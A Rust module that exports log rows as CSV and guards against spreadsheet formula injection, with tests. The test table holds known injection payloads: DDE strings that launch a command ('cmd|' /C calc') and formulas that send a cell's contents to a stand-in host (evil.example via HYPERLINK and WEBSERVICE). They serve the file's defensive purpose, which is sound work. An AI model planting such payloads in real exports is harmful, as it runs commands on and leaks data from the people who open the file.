//! CSV (RFC 4180) that a spreadsheet can open without running anything.
//!
//! A cell whose first character, behind any blanks, makes a spreadsheet take it for a formula (`=`, `+`, `-`, `@`, their full-width
//! forms, a tab, a carriage return, a line feed) begins with an apostrophe instead. The apostrophe is not in the log: whoever compares
//! bytes takes JSONL or Parquet, or `line`, which begins with a brace unless somebody wrote into the database.

use std::io;

use super::row::{COLUMNS, Row, Value};

/// Writes rows, under the names of the columns when `heading` says so.
pub(super) fn write(rows: &[Row], heading: bool) -> io::Result<Vec<u8>> {
    let mut writer = ::csv::WriterBuilder::new()
        .quote_style(::csv::QuoteStyle::Always)
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    if heading {
        writer.write_record(COLUMNS.map(|column| column.name))?;
    }
    for row in rows {
        writer.write_record(row.0.iter().map(|value| match value {
            Value::Text(text) => harmless(text.clone().unwrap_or_default()),
            Value::Number(number) => number.map_or_else(String::new, |number| number.to_string()),
            Value::Time(time) => time.as_ref().map_or_else(String::new, |(text, _)| text.clone()),
        }))?;
    }
    writer.into_inner().map_err(|error| io::Error::other(error.to_string()))
}

fn harmless(cell: String) -> String {
    let begins = |cell: &str| cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\0']);
    if begins(&cell) || begins(cell.trim_start()) { format!("'{cell}") } else { cell }
}

#[cfg(test)]
mod tests {
    use storage::DecisionRow;

    use super::*;

    /// What is known to make spreadsheets run, fetch or leak something, and what is harmless.
    const CELLS: [(&str, bool); 24] = [
        ("=1+1", true),
        ("=cmd|' /C calc'!A0", true),
        ("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")", true),
        ("=WEBSERVICE(\"https://evil.example\")", true),
        ("+1+cmd|' /C calc'!A0", true),
        ("-2+3+cmd|' /C calc'!D2", true),
        ("@SUM(1+1)*cmd|' /C calc'!A0", true),
        ("\t=1+1", true),
        ("\r=1+1", true),
        ("\n=1+1", true),
        ("\0=1+1", true),
        ("  =1+1", true),
        ("\u{a0}=1+1", true),
        ("＝1+1", true),
        ("＋1", true),
        ("－1", true),
        ("＠SUM(1)", true),
        ("-", true),
        ("", false),
        ("key:checkout", false),
        ("a=b", false),
        ("1-2", false),
        ("'=1+1", false),
        ("{\"act\":\"=1+1\"}", false),
    ];

    #[test]
    fn no_cell_begins_as_a_formula_does_and_nothing_else_is_touched() {
        for (cell, dangerous) in CELLS {
            let written = harmless(cell.to_owned());
            let expected = if dangerous { format!("'{cell}") } else { cell.to_owned() };
            assert_eq!(written, expected, "{cell:?}");
        }
    }

    #[test]
    fn a_leaf_full_of_formulas_is_written_without_one_and_read_back_whole() {
        for (cell, dangerous) in CELLS {
            let line = serde_json::json!({ "act": cell, "res": cell, "why": cell, "k": cell }).to_string();
            let row = DecisionRow { seq: 7, leaf_hash: [1; 32], line: line.clone() };
            let bytes = write(&[Row::of(&row)], true).expect("written");
            let mut reader = ::csv::Reader::from_reader(bytes.as_slice());
            let names: Vec<_> = reader.headers().expect("names").iter().map(str::to_owned).collect();
            assert_eq!(names, COLUMNS.map(|column| column.name));
            let record = reader.records().next().expect("a row").expect("readable");
            assert_eq!(record.len(), COLUMNS.len());
            let of = |name: &str| {
                record.get(names.iter().position(|known| known == name).expect("a column")).expect("a cell")
            };
            assert_eq!((of("seq"), of("line")), ("7", line.as_str()));
            for name in ["actor", "resource", "why", "kind"] {
                assert_eq!(of(name).strip_prefix('\'').filter(|_| dangerous).unwrap_or(of(name)), cell);
            }
            for cell in record.iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            }
        }
    }
}
